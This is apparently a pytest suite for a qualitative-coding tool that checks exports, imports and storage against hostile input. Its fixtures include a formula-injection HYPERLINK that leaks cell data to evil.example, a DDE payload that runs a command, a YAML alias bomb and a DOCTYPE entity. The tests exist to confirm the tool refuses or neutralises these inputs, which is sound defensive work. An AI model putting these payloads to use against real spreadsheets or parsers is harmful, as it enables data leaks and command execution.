"""Hostile text and hostile machines (issue 19, items 2-7): formulas in exports, markup in names,
YAML bombs and control characters in codebooks, crashes and full disks mid-write, read-only
projects. Each test checks the refusal or the safe result, and that the store is intact after.

Full disks and read-only folders are real where the machine allows it (a tiny tmpfs, a
read-only bind mount: as root, which CI is), and simulated in-process everywhere.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import hashlib
import io
import os
import shutil
import sqlite3
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import DATA, MINI, codebook_exe, run, write

from codebook import Project
from codebook.model import CodebookError, Coding, ProjectReadOnly
from codebook.store import Store

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
DDE = "=cmd|' /C calc'!A0"
MARKUP = "[@click=app.quit]x[/]"
FORMULA_CODER = "-2-3"  # a valid name that a spreadsheet would compute
TRANSCRIPT = f"""---
stakeholder_group: parent
---
I: What did the letter say?
R: {HYPERLINK}
I: And the other one?
R: {DDE}
I: Anything else?
R: @SUM(1+1) and +1+1 were in it as well.
"""


@pytest.fixture
def hostile(tmp_path) -> Path:
    """A project (the English codebook, another shape than the sample) full of formula text:
    in the transcript, a code label, memos and a coder name."""
    book = (DATA / "english-codebook.yaml").read_text(encoding="utf-8")
    book = book.replace("en: Reading and writing", f"en: '{HYPERLINK}'")
    codebook = write(tmp_path / "hostile-codebook.yaml", book)
    root = tmp_path / "proj"
    with Project.init(root, codebook) as project:
        project.import_files([write(tmp_path / "letters.txt", TRANSCRIPT)])
        t = project.transcript("letters")
        for needle, coder, memo in (
            (HYPERLINK, "ana", DDE),
            (DDE, FORMULA_CODER, "@SUM(1+1)"),
            ("@SUM(1+1)", "ana", "+1+1"),
        ):
            start = t.text.index(needle)
            project.add_coding(t, start, start + len(needle), "skills.reading", coder, memo=memo)
    return root


def store_digest(root: Path) -> tuple:
    """What the store holds, to compare before and after a refused action."""
    with Project.open(root) as p:
        codings = sorted((c.transcript_id, c.start, c.end, c.code, c.coder) for c in p.codings())
        return len(p.transcripts()), tuple(codings), tuple(p.coders()), len(p.memos())


# -- 2. formula injection -----------------------------------------------------------------------
def test_xlsx_cells_are_text_never_formulas(hostile, tmp_path):
    out = tmp_path / "coded.xlsx"
    run("-p", str(hostile), "export", "-o", str(out))
    book = openpyxl.load_workbook(out)
    texts, kinds = set(), {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                kinds.setdefault((sheet.title, sheet.cell(1, cell.column).value), set()).add(
                    cell.data_type
                )
    for payload in (HYPERLINK, DDE, "@SUM(1+1)", "+1+1", FORMULA_CODER):
        assert payload in texts, payload  # the text itself, not an apostrophe-escaped copy
    assert kinds[("coded segments", "start")] == {"s", "n"}  # header text, computed numbers
    with zipfile.ZipFile(out) as z:
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/work"))
    assert "<f>" not in sheets and "<f " not in sheets


def test_csv_cells_that_start_like_formulas_get_an_apostrophe(hostile, tmp_path):
    out = tmp_path / "coded.csv"
    run("-p", str(hostile), "export", "-o", str(out))
    rows = list(csv.reader(out.open(encoding="utf-8")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for payload in (HYPERLINK, DDE, "@SUM(1+1)", "+1+1", FORMULA_CODER):
        assert "'" + payload in cells, payload
    table = pd.read_csv(out)
    assert table["start"].dtype.kind == "i"  # numbers stay numbers


def test_codings_csv_round_trip_keeps_formula_text_exactly(hostile, tmp_path):
    out = tmp_path / "codings.csv"
    run("-p", str(hostile), "codings", "export", "-o", str(out))
    assert "'" + DDE in out.read_text(encoding="utf-8")
    other = tmp_path / "other"
    book = next((hostile / "codebooks").glob("*.yaml"))
    run("init", str(other), "--codebook", str(book))
    run("-p", str(other), "import", str(tmp_path / "letters.txt"))
    run("-p", str(other), "codings", "import", str(out))
    with Project.open(hostile) as a, Project.open(other) as b:

        def key(p):
            return sorted((c.start, c.end, c.code, c.coder, c.memo) for c in p.codings())

        assert key(a) == key(b)
    assert {c[4] for c in key(b)} == {DDE, "@SUM(1+1)", "+1+1"}


def test_csv_safe_round_trips_any_leading_apostrophes():
    from codebook.interchange.cells import csv_safe, csv_unsafe

    for text in ["=1+1", "'=1+1", "''=1", "'plain", "plain", "-", "", "'", "\t=x"]:
        assert csv_unsafe(csv_safe(text)) == text
        assert not csv_safe(text).startswith(("=", "+", "-", "@", "\t", "\r"))


# -- 3. names are names -------------------------------------------------------------------------
def test_markup_in_a_coder_name_is_refused_at_every_door(hostile, tmp_path):
    before = store_digest(hostile)
    bad = write(
        tmp_path / "bad.csv",
        f"transcript,start,end,code,coder\nletters,0,5,skills.reading,{MARKUP}\n",
    )
    proc = run("-p", str(hostile), "codings", "import", str(bad), check=False)
    assert proc.returncode == 1 and "row 2: coder name" in proc.stderr
    assert "not allowed" in proc.stderr and "Traceback" not in proc.stderr
    proc = run("-p", str(hostile), "code", "--coder", MARKUP, check=False)
    assert proc.returncode == 1 and "--coder" in proc.stderr and "not allowed" in proc.stderr
    proc = subprocess.run(
        [codebook_exe(), "-p", str(hostile), "users", "add", MARKUP, "--password-stdin"],
        input="long enough password\n", capture_output=True, text=True,
    )  # fmt: skip
    assert proc.returncode == 1 and "user name" in proc.stderr and "not allowed" in proc.stderr
    assert store_digest(hostile) == before


def test_merge_refuses_a_copy_with_a_markup_coder(hostile, tmp_path):
    copy = tmp_path / "copy"
    shutil.copytree(hostile, copy)
    with Project.open(copy) as p:  # another tool wrote this name straight into the store
        t = p.transcript("letters")
        p.store.add_coding(Coding(None, t.id, 0, 5, "skills.digital", MARKUP))
    before = store_digest(hostile)
    proc = run("-p", str(hostile), "merge", str(copy), check=False)
    assert (
        proc.returncode == 1
        and "coder name" in proc.stderr
        and "Nothing was merged" in (proc.stderr)
    )
    assert store_digest(hostile) == before


# -- 4. codebook YAML -------------------------------------------------------------------------
BOMB = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)  # nine levels of nine: 387 million strings once expanded


def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path):
    path = write(
        tmp_path / "bomb.yaml",
        BOMB + "codes:\n  - id: x\n    label: X\n    examples: *i\n",
    )
    proc = subprocess.run(
        [codebook_exe(), "codebook", "validate", str(path)],
        capture_output=True, text=True, timeout=60,  # it took 83 s and 3 GB before
    )  # fmt: skip
    assert proc.returncode == 1 and "alias" in proc.stderr and "Traceback" not in proc.stderr
    assert f"{path}:" in proc.stderr
    proc = run("init", str(tmp_path / "p"), "--codebook", str(path), check=False)
    assert proc.returncode == 1 and "alias" in proc.stderr
    assert not (tmp_path / "p" / ".codebook").exists()


def test_self_referring_aliases_are_refused_and_a_few_aliases_are_fine(tmp_path):
    from codebook import codebooks

    loop = write(tmp_path / "loop.yaml", "a: &a [*a]\ncodes: []\n")
    assert any("alias" in p for p in codebooks.validate(loop))
    text = (DATA / "english-codebook.yaml").read_text(encoding="utf-8")
    text = text.replace(
        "keywords: [letter, read, reading, write, writing, word, language, form]",
        "keywords: &words [letter, read, reading, write, writing, word, language, form]",
    ).replace("keywords: [daughter, son, neighbour, friend, family, sister, brother]",
              "keywords: *words")  # fmt: skip
    shared = write(tmp_path / "shared.yaml", text)
    assert codebooks.validate(shared) == []
    book = codebooks.load(shared)
    assert book.codes["support.network"].keywords == book.codes["skills.reading"].keywords


def test_control_characters_in_a_codebook_name_file_and_line(tmp_path, mini_project):
    from codebook import codebooks

    escaped = MINI.read_text(encoding="utf-8").replace(
        "definition: Moeite met lezen of schrijven.",
        'definition: "Moeite met \\e[31mlezen\\e[0m of schrijven."',
    )
    path = write(tmp_path / "esc.yaml", escaped)
    line = escaped.splitlines().index(next(x for x in escaped.splitlines() if "\\e[31m" in x)) + 1
    problems = codebooks.validate(path)
    assert problems == [f"{path}:{line}: control character U+001B (ESC) in 'definition' is not "
                        "allowed"]  # fmt: skip
    raw = write(tmp_path / "raw.yaml", escaped.replace('"Moeite met \\e', '"Moeite met \x1b'))
    assert codebooks.validate(raw)[0].startswith(f"{raw}:{line}: control character U+001B")
    proc = run("init", str(tmp_path / "p"), "--codebook", str(path), check=False)
    assert proc.returncode == 1 and f"{path}:{line}" in proc.stderr


def test_a_duplicate_hotkey_is_reported_next_to_a_duplicate_id(tmp_path):
    from codebook import codebooks

    text = MINI.read_text(encoding="utf-8")
    block = text[
        text.index("      - id: barrier.language") : text.index("      - id: barrier.digital")
    ]
    path = write(tmp_path / "dup.yaml", text.replace(block, block + block))
    problems = codebooks.validate(path)
    assert any("duplicate id 'barrier.language'" in p for p in problems)
    assert any("duplicate hotkey 'T'" in p for p in problems)
    assert all(p.startswith(f"{path}:") and p.split(":")[1].isdigit() for p in problems)


def test_control_characters_in_project_text_do_not_break_xml_exports(hostile, tmp_path):
    with Project.open(hostile) as p:
        t = p.transcript("letters")
        p.add_coding(t, 0, 10, "skills.digital", "ana", memo="red \x1b[31mtext\x1b[0m\x00 bell\x07")
    for name in ("coded.xlsx", "report.docx", "report.html", "report.md", "book.docx"):
        out = tmp_path / name
        command = ["export"] if name.startswith("coded") else ["report", "--lang", "en"]
        if name.startswith("book"):
            command = ["codebook", "export"]
        proc = run("-p", str(hostile), *command, "-o", str(out), check=False)
        assert proc.returncode == 0 and "Traceback" not in proc.stderr, (name, proc.stderr)
        data = out.read_bytes()
        if name.endswith((".xlsx", ".docx")):
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                data = b"".join(z.read(n) for n in z.namelist() if n.endswith(".xml"))
        assert b"\x1b" not in data and b"\x00" not in data and b"\x07" not in data, name


# -- 5. atomic outputs ------------------------------------------------------------------------
OUTPUTS = {
    "coded.xlsx": lambda p, out: p.export_table(out),
    "coded.csv": lambda p, out: p.export_table(out),
    "coded.parquet": lambda p, out: p.export_table(out),
    "codings.csv": lambda p, out: p.export_codings(out),
    "report.html": lambda p, out: p.report(out, lang="en"),
    "report.docx": lambda p, out: p.report(out, lang="en"),
    "report.md": lambda p, out: p.report(out, lang="en"),
    "codebook.docx": lambda p, out: p.export_codebook_document(out),
    "backup.sqlite": lambda p, out: p.backup(out),
}


def leftovers(folder: Path, keep: set[str]) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name not in keep)


@pytest.mark.parametrize("name", sorted(OUTPUTS))
def test_a_crash_mid_write_leaves_the_old_file_and_no_partial_one(name, hostile, tmp_path,
                                                                   monkeypatch):  # fmt: skip
    import codebook.files

    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / name
    if name != "backup.sqlite":  # a backup never replaces a file
        out.write_bytes(b"the good old file")

    def crash(path):
        assert Path(path).stat().st_size > 0  # the new content was being written
        raise KeyboardInterrupt  # Ctrl+C, or the machine going down, just before the rename

    monkeypatch.setattr(codebook.files, "_fsync", crash)
    with Project.open(hostile) as p, pytest.raises(KeyboardInterrupt):
        OUTPUTS[name](p, out)
    if name == "backup.sqlite":
        assert not out.exists()
    else:
        assert out.read_bytes() == b"the good old file"
    assert leftovers(out_dir, {name}) == []


@pytest.mark.parametrize("name", ["coded.xlsx", "report.html", "codings.csv", "backup.sqlite"])
def test_a_full_disk_mid_write_is_one_clear_error(name, hostile, tmp_path, monkeypatch):
    import codebook.files

    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / name
    if name != "backup.sqlite":
        out.write_bytes(b"the good old file")
    before = store_digest(hostile)

    def full(path):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(codebook.files, "_fsync", full)
    with Project.open(hostile) as p, pytest.raises(CodebookError) as error:
        OUTPUTS[name](p, out)
    assert "the disk is full" in str(error.value) and "\n" not in str(error.value)
    assert (
        (not out.exists()) if name == "backup.sqlite" else out.read_bytes() == b"the good old file"
    )
    assert leftovers(out_dir, {name}) == []
    assert store_digest(hostile) == before


@contextlib.contextmanager
def tmpfs(path: Path, size: str):
    """A real, tiny file system (root only; skipped where mounting is not allowed)."""
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a tmpfs needs root")
    path.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)], capture_output=True
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode().strip()}")
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], capture_output=True)


def fill(folder: Path, leave: int = 0) -> None:
    """Fill the file system of `folder` until `leave` bytes are free."""
    free = shutil.disk_usage(folder).free - leave
    with open(folder / "filler", "wb") as fh:
        with contextlib.suppress(OSError):
            while free > 0:
                chunk = min(free, 1 << 20)
                fh.write(b"\0" * chunk)
                free -= chunk
            fh.flush()


def test_a_really_full_disk_keeps_the_old_export(hostile, tmp_path):
    with tmpfs(tmp_path / "small", "4m") as disk:
        out = disk / "coded.xlsx"
        out.write_bytes(b"the good old file")
        fill(disk)
        before = store_digest(hostile)
        proc = run("-p", str(hostile), "export", "-o", str(out), check=False)
        assert proc.returncode == 1 and "the disk is full" in proc.stderr, proc.stderr
        assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr
        assert out.read_bytes() == b"the good old file"
        assert leftovers(disk, {"coded.xlsx", "filler"}) == []
        assert store_digest(hostile) == before


def test_a_full_disk_during_import_says_what_the_backup_needs(tmp_path):
    with tmpfs(tmp_path / "small", "40m") as disk:
        root = disk / "proj"
        run("init", str(root), "--codebook", str(DATA / "english-codebook.yaml"))
        run("-p", str(root), "import", str(DATA / "english-interview-parent.txt"))
        before = store_digest(root)
        backups = root / ".codebook" / "backups"
        kept = sorted(backups.glob("*.sqlite"))  # the first import's own backup
        fill(disk, leave=5_000_000)
        proc = run("-p", str(root), "import", str(DATA / "english-interview-advisor.txt"),
                   check=False)  # fmt: skip
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
        assert len(proc.stderr.strip().splitlines()) == 1
        assert "not enough free space for a backup" in proc.stderr and "needs" in proc.stderr
        assert "MB are free" in proc.stderr and "nothing was changed" in proc.stderr
        assert store_digest(root) == before
        assert sorted(backups.glob("*.sqlite")) == kept
        assert not [p for p in backups.iterdir() if p.name.endswith(".partial")]

        (disk / "filler").unlink()
        fill(disk)  # now nothing at all is free: the store itself cannot grow
        codings = write(tmp_path / "c.csv", "transcript,start,end,code,coder\n"
                        "english-interview-parent,0,10,skills.reading,ana\n")  # fmt: skip
        proc = run("-p", str(root), "codings", "import", str(codings), check=False)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
        assert "full" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
        (disk / "filler").unlink()
        assert store_digest(root) == before
        with sqlite3.connect(root / ".codebook" / "project.sqlite") as conn:
            assert conn.execute("pragma integrity_check").fetchone()[0] == "ok"


# -- 6. read-only projects --------------------------------------------------------------------
@contextlib.contextmanager
def read_only_view(root: Path, where: Path):
    """`root` seen through a read-only bind mount (as root), or with write bits removed."""
    if os.geteuid() != 0:
        for p in [root, *root.rglob("*")]:
            p.chmod(p.stat().st_mode & ~0o222)
        try:
            yield root
        finally:
            for p in [root, *root.rglob("*")]:
                p.chmod(p.stat().st_mode | 0o200)
        return
    where.mkdir()
    mounted = subprocess.run(["mount", "--bind", str(root), str(where)], capture_output=True)
    if mounted.returncode != 0:
        pytest.skip("cannot bind-mount here (and chmod does not stop root)")
    try:
        subprocess.run(["mount", "-o", "remount,bind,ro", str(where)], check=True)
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], capture_output=True)


def test_a_read_only_project_can_be_read_and_says_it_cannot_be_written(hostile, tmp_path):
    db = hostile / ".codebook" / "project.sqlite"
    Project.open(hostile).close()  # checkpointed: no write-ahead log left
    digest = hashlib.sha256(db.read_bytes()).hexdigest()
    before = store_digest(hostile)
    with read_only_view(hostile, tmp_path / "ro") as ro:
        p = ["-p", str(ro)]
        info = run(*p, "info").stdout
        assert "transcripts 1" in info and "(read-only)" in info
        assert "skills.reading" in run(*p, "stats", "--format", "csv").stdout
        assert "HYPERLINK" in run(*p, "show", "letters").stdout
        run(*p, "report", "-o", str(tmp_path / "r.html"))
        run(*p, "export", "-o", str(tmp_path / "r.xlsx"))
        run(*p, "backup", "-o", str(tmp_path / "b.sqlite"))
        for command in (
            ["import", str(DATA / "english-interview-advisor.txt")],
            ["codings", "import", str(write(tmp_path / "c.csv", "transcript,start,end,code,coder\n"
                                            "letters,0,5,skills.reading,bo\n"))],
            ["codings", "add", "letters", "2", "skills.reading", "--coder", "bo"],
        ):  # fmt: skip
            proc = run(*p, *command, check=False)
            assert proc.returncode == 1 and "read-only" in proc.stderr, (command, proc.stderr)
            assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr
    assert hashlib.sha256(db.read_bytes()).hexdigest() == digest
    assert store_digest(hostile) == before
    with sqlite3.connect(tmp_path / "b.sqlite") as conn:
        assert conn.execute("select count(*) from codings").fetchone()[0] == len(before[1])


def test_a_store_opened_read_only_refuses_every_write_before_it_starts(hostile):
    db = hostile / ".codebook" / "project.sqlite"
    Project.open(hostile).close()
    digest = hashlib.sha256(db.read_bytes()).hexdigest()
    store = Store.open(db, read_only=True)
    try:
        assert store.read_only and len(store.transcripts()) == 1 and store.codings()
        with pytest.raises(ProjectReadOnly, match="read-only; nothing was changed"):
            store.set_meta("x", "y")
        with pytest.raises(ProjectReadOnly):
            store.add_user("bo", "coder", "hash")
        with Project(hostile, store) as project, pytest.raises(ProjectReadOnly):
            project.auto_backup("import")
    finally:
        store.close()
    assert hashlib.sha256(db.read_bytes()).hexdigest() == digest


def test_sqlite_errors_on_write_become_one_line(hostile, monkeypatch):
    """What SQLite says when the disk fills or the file turns read-only under a running app."""
    from sqlalchemy.exc import OperationalError

    store = Store.open(hostile / ".codebook" / "project.sqlite")
    try:
        for code, words in ((13, "the disk is full"), (8, "the project is read-only")):
            error = sqlite3.OperationalError("boom")
            error.sqlite_errorcode = code
            with pytest.raises(CodebookError, match=words) as caught:
                with store.transaction():
                    raise OperationalError("INSERT ...", {}, error)
            assert "\n" not in str(caught.value)
    finally:
        store.close()


# -- 7. a DOCTYPE in a .docx ---------------------------------------------------------------------
def test_a_doctype_in_a_docx_is_warned_about(tmp_path, mini_project):
    import docx

    document = docx.Document()
    document.add_paragraph("I: Hoe gaat het met de brieven?")
    document.add_paragraph("R: Ik lees de brief van school niet &x; goed.")
    buf = io.BytesIO()
    document.save(buf)
    source, target = io.BytesIO(buf.getvalue()), io.BytesIO()
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item)
            if item.filename == "word/document.xml":
                data = data.replace(b"?>", b'?><!DOCTYPE w:document [<!ENTITY x "EXPANDED">]>', 1)
            zout.writestr(item, data)
    path = write(tmp_path / "doctype.docx", target.getvalue())
    proc = run("-p", str(mini_project.root), "import", str(path), check=False)
    assert proc.returncode == 0, proc.stderr
    assert "DOCTYPE" in proc.stderr and "word/document.xml" in proc.stderr
    with Project.open(mini_project.root) as p:
        assert "EXPANDED" not in p.transcript("doctype").text
